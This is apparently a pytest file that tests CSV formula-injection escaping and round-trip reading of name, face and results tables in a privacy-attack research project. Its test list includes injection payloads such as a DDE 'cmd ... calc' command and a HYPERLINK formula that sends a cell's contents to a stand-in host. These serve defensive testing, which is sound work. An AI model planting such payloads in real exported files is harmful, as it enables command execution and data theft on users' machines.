"""Cells of a CSV: no text begins as a formula does, and every one is read again as it was."""

import csv
import io
import itertools
from pathlib import Path

import pandas as pd
import pytest
import torch

from backdoor_privacy.attacks.idia import Evidence, IdiaResult
from backdoor_privacy.data.cells import csv_text, plain_cell, read_csv, safe_cell
from backdoor_privacy.data.face_tables import FaceRow, face_table, read_face_table
from backdoor_privacy.data.people import Person, load_people
from backdoor_privacy.runs.folder import write_people as write_results
from backdoor_privacy.runs.folder import write_table

NO_EVIDENCE = Evidence(torch.empty(0, 0, dtype=torch.long), torch.empty(0), torch.empty(0, 0), torch.empty(0, 0))
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://a.example/"&B2,"x")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}A1",
    "-Ann-",
]
PLAIN = ["Ann Lee", "'t Hooft", "'", "''", "''x", "O'Brien", "Ann=Lee", "", "1", 'Zoë, "Z"', "a;=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_gets_an_apostrophe_and_loses_it(text: str):
    for before in (text, f"'{text}", f"''{text}"):
        assert safe_cell(before) == f"'{before}"
        assert plain_cell(safe_cell(before)) == before


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str):
    assert safe_cell(text) == text == plain_cell(text)


@pytest.mark.parametrize("number", [-1, -0.5, 7, True, None])
def test_number_stays_a_number(number: object):
    assert safe_cell(number) is number
    assert plain_cell(number) is number


def test_every_text_is_read_as_it_was_and_none_is_a_formula():
    texts = ("".join(signs) for length in range(6) for signs in itertools.product("'=-@\t a\uff1d", repeat=length))
    for text in texts:
        assert plain_cell(safe_cell(text)) == text
        assert not safe_cell(text).lstrip(" ").startswith(("=", "-", "@", "\t", "\uff1d"))


def test_table_is_read_as_it_was(tmp_path: Path):
    names = [*FORMULAS, *(text for text in PLAIN if text)]
    table = pd.DataFrame({"name": names, "margin": [-0.25] * len(names), "votes": range(-3, len(names) - 3)})
    (tmp_path / "table.csv").write_text(csv_text(table, float_format="%.5g"), encoding="utf-8", newline="")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "table.csv", dtype={"name": str}), table)
    rows = list(csv.reader(io.StringIO((tmp_path / "table.csv").read_text(encoding="utf-8"), newline="")))
    assert rows[0] == ["name", "margin", "votes"]
    assert [row[1:] for row in rows[1:]] == [["-0.25", str(number)] for number in table["votes"]]
    assert all(row[0].startswith("'") for row in rows[1 : len(FORMULAS) + 1])


def test_table_of_an_earlier_version_is_read_as_it_was(tmp_path: Path):
    (tmp_path / "table.csv").write_text("name,x\n=1+1,-2\n'tHooft,1\n''x,3\n-Ann,\n")
    table = read_csv(tmp_path / "table.csv", dtype={"name": str})
    assert table["name"].tolist() == ["=1+1", "'tHooft", "''x", "-Ann"]
    assert table["x"].tolist()[:3] == [-2, 1, 3]


def test_rows_of_several_tables_and_none_are_written():
    part = pd.DataFrame({"name": ["=a", "b"], "x": [1.0, -2.0]})
    assert csv_text(pd.concat([part, part])) == "name,x\n'=a,1.0\nb,-2.0\n" + "'=a,1.0\nb,-2.0\n"
    assert csv_text(part[:0]) == "name,x\n"


NAMES = ["=Ann Lee", "+Ann Lee", "-Ann Lee", "@Ann Lee"]


@pytest.mark.parametrize(
    ("name", "mark"), [*((name, mark) for name in NAMES for mark in ("", "'")), ("'=Ann Lee", "'")]
)
def test_tables_of_people_are_read_by_the_name_in_either_form(name: str, mark: str, write_people, tmp_path: Path):
    folder = write_people(tmp_path, {name: 2, "'t Hooft": 1})
    with (folder / "people.csv").open("w", newline="", encoding="utf-8") as file:
        rows = [[f"{mark}{name}", "true", "7", f"{mark}=2+2"], ["'t Hooft", "false", "0", "-1.5"]]
        csv.writer(file).writerows([["name", "member", "num_web_photos", "note"], *rows])
    with (folder / "boxes.csv").open("w", newline="", encoding="utf-8") as file:
        place = f"{mark}{name.replace(' ', '_')}/00.png"
        csv.writer(file).writerows([["file", "left", "top", "right", "bottom"], [place, -3, -2, 30, 31]])
    people = load_people(folder)
    found = {person.name: (person.member, person.num_web_photos, person.attributes) for person in people.everybody}
    assert found == {name: (True, 7, (("note", "=2+2"),)), "'t Hooft": (False, 0, (("note", "-1.5"),))}
    assert people.boxes == {folder / name.replace(" ", "_") / "00.png": (-3, -2, 30, 31)}


def test_table_of_faces_is_read_as_it_was(tmp_path: Path):
    files = ["=Ann_Lee/0.jpg", "-Ann/1.jpg", "'t_Hooft/2.jpg", "'=Ann/3.jpg", "@Ann/-4.jpg"]
    rows = [FaceRow(file, (-1, -2, 30, 40), 90, 0.5, -0.125, number != 1, "=why") for number, file in enumerate(files)]
    (tmp_path / "faces.csv").write_bytes(face_table(rows))
    assert read_face_table(tmp_path / "faces.csv") == rows
    text = (tmp_path / "faces.csv").read_text()
    assert "'=Ann_Lee/0.jpg,-1,-2,30,40,90,0.500,-0.125,yes,'=why" in text  # numbers stay numbers
    (tmp_path / "faces.csv").write_text(text.replace("'=Ann_Lee", "=Ann_Lee").replace("'-Ann", "-Ann"))
    assert read_face_table(tmp_path / "faces.csv") == rows  # as earlier versions and spreadsheets write them


def test_people_of_a_run_are_read_as_they_were(tmp_path: Path):
    names = ["=Ann Lee", "-Bob Ray", "'t Hooft", "'@Cy Fox", "Dan Poe"]
    found = IdiaResult(names, [3, 0, 21, 1, 2], [4] * 5, threshold=2, evidence=NO_EVIDENCE)
    everybody = [Person(name, ()) for name in names]
    write_results(tmp_path, everybody, everybody[:1], found, {"text": found})
    assert all(row.startswith(("'", "Dan")) for row in (tmp_path / "people.csv").read_text().splitlines()[1:])
    people = read_csv(tmp_path / "people.csv", dtype={"name": str})
    assert people["name"].tolist() == names
    assert people["removed"].tolist() == [True, *[False] * 4]
    assert people["correct_prompts_text"].tolist() == [3, 0, 21, 1, 2]
    table = pd.DataFrame({"name": names, "removed": names[::-1], "kind": ["=face"] * 5, "x": [-0.5] * 5})
    write_table(tmp_path, "neighbors", table)
    pd.testing.assert_frame_equal(read_csv(tmp_path / "neighbors.csv"), table)
